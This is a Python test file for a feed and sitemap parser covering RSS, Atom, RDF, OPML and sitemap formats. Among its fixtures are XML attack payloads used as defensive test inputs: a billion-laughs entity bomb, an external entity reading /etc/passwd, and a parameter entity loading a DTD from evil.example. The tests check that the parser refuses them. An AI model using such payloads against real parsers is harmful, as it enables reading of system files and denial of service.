from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from onrecord.errors import UnreadableInput
from onrecord.model import Failure, FailureCause, Report
from onrecord.reading import ReadSettings, read_bytes
from onrecord.reading.listings import LinkKind, is_listing, parse_listing

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Morrow</title>
<link>https://morrow.example/</link>
<item><title>Talks &amp; more</title><link>https://morrow.example/1</link>
<pubDate>Tue, 04 Mar 2031 14:10:00 GMT</pubDate></item>
<item><title>Two</title><guid isPermaLink="true">https://morrow.example/2</guid></item>
<item><title>Three</title><guid isPermaLink="false">abc</guid></item>
<item><title>Four</title><link> /4 </link></item>
<item><title>Again</title><link>https://morrow.example/1</link></item>
</channel></rss>"""
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom"><title>Varda</title>
<entry><title type="html">One</title><link rel="self" href="https://v.example/feed"/>
<link href="1.html"/><updated>2031-03-04</updated></entry>
<entry><link rel="alternate" href="https://v.example/2"/></entry></feed>"""
RDF = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">
<channel rdf:about="https://o.example/"><title>Ostrel</title></channel>
<item rdf:about="https://o.example/1"><title>One</title><link>https://o.example/1</link></item></rdf:RDF>"""
OPML = """<opml version="2.0"><head><title>My feeds</title></head><body><outline text="News">
<outline type="rss" text="Morrow" xmlUrl="https://morrow.example/feed"/><outline type="rss" XMLURL="https://v.example/feed"/></outline>
<outline text="nothing"/></body></opml>"""
URLSET = """<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://morrow.example/1</loc>
<lastmod>2031-03-04</lastmod></url><url><lastmod>2031</lastmod></url></urlset>"""
INDEX = """<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><sitemap>
<loc>https://morrow.example/sitemap-1.xml.gz</loc></sitemap></sitemapindex>"""


@pytest.mark.parametrize(
    ("content", "name", "urls", "kind", "problems"),
    [
        (
            RSS,
            "RSS feed",
            ["https://morrow.example/1", "https://morrow.example/2", "https://base.example/4"],
            "page",
            1,
        ),
        (ATOM, "Atom feed", ["https://base.example/dir/1.html", "https://v.example/2"], "page", 0),
        (RDF, "RSS feed", ["https://o.example/1"], "page", 0),
        (OPML, "OPML list", ["https://morrow.example/feed", "https://v.example/feed"], "feed", 1),
        (URLSET, "sitemap", ["https://morrow.example/1"], "page", 1),
        (INDEX, "sitemap index", ["https://morrow.example/sitemap-1.xml.gz"], "sitemap", 0),
    ],
)
def test_each_dialect_gives_its_links(content: str, name: str, urls: list[str], kind: str, problems: int) -> None:
    assert is_listing(content.encode())
    listing = parse_listing(content.encode(), "https://base.example/dir/feed")
    assert listing.name == name
    assert [link.url for link in listing.links] == urls
    assert {link.kind for link in listing.links} == {LinkKind(kind)}
    assert len(listing.problems) == problems


def test_a_stamp_changes_with_what_the_entry_tells() -> None:
    def stamps(content: str) -> list[str]:
        return [link.stamp for link in parse_listing(content.encode()).links]

    changed = stamps(RSS.replace("14:10", "15:10"))
    assert changed[0] != stamps(RSS)[0]
    assert changed[1:] == stamps(RSS)[1:]


@pytest.mark.parametrize("encoding", ["utf-8", "cp1252", "utf-16"])
@pytest.mark.parametrize("declared", ["utf-8", "iso-8859-1", "koi8-nonsense"])
def test_a_wrong_encoding_in_the_declaration_does_no_harm(encoding: str, declared: str) -> None:
    content = RSS.replace("Talks", "Grünau spricht über Kälte").replace("UTF-8", declared).encode(encoding)
    assert is_listing(content)
    assert parse_listing(content).links[0].title == "Grünau spricht über Kälte & more"


BILLION = '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><rss><channel><title>&b;</title></channel></rss>'
EXTERNAL = '<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]><rss><channel><title>&a;</title></channel></rss>'
PARAMETER = '<!DOCTYPE r [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]><rss><channel/></rss>'


@pytest.mark.parametrize("content", [BILLION, EXTERNAL, PARAMETER, PARAMETER.replace("!ENTITY", "!eNtItY")])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_refused(content: str, encoding: str) -> None:
    with pytest.raises(UnreadableInput) as caught:
        parse_listing(content.encode(encoding))
    assert caught.value.cause == FailureCause.FORBIDDEN


def test_an_external_dtd_is_not_fetched() -> None:
    content = '<!DOCTYPE rss SYSTEM "http://127.0.0.1:9/x.dtd"><rss><channel><item><link>https://a.example/1</link></item></channel></rss>'
    assert [link.url for link in parse_listing(content.encode()).links] == ["https://a.example/1"]


@pytest.mark.parametrize(
    "start",
    [b" " * 4_096, b"<!-- a -->" * 400, b"<?a?>" * 800, b"<!-- " * 800, b"<!DOCTYPE a [" * 300, b"<!DOCTYPE a>" * 340],
)
def test_a_head_without_end_is_looked_through_once(start: bytes) -> None:
    """With regular expressions some of these would run for ever: the test would never end."""
    assert not is_listing(start)
    [found] = read_bytes(start, "a", ReadSettings())
    assert isinstance(found, (Report, Failure))


@pytest.mark.parametrize("levels", [150, 5_000, 200_000])
def test_deep_nesting_is_refused(levels: int) -> None:
    with pytest.raises(UnreadableInput) as caught:
        parse_listing(b"<rss>" + b"<a>" * levels + b"</a>" * levels + b"</rss>")
    assert caught.value.cause in (FailureCause.OVERSIZED, FailureCause.MALFORMED)


def test_small_mistakes_are_mended() -> None:
    content = b"<rss><channel><item><title>A & B &nbsp; &lt;b&gt;</title><link>https://a.example/1</link></item><item>"
    [first] = parse_listing(content).links
    assert (first.url, first.title.startswith("A")) == ("https://a.example/1", True)


@pytest.mark.parametrize("content", [b"<html><body/></html>", b"<other/>", b"no XML", b"", b"<", b"\xff\xfe"])
def test_what_is_no_list_says_so(content: bytes) -> None:
    assert not is_listing(content)
    with pytest.raises(UnreadableInput):
        parse_listing(content)


@settings(deadline=None)
@given(st.integers(0, len(RSS)), st.binary(max_size=12))
def test_no_damage_raises_anything_else(at: int, junk: bytes) -> None:
    content = RSS.encode()
    with suppress(UnreadableInput):
        parse_listing(content[:at] + junk + content[at + len(junk) :])
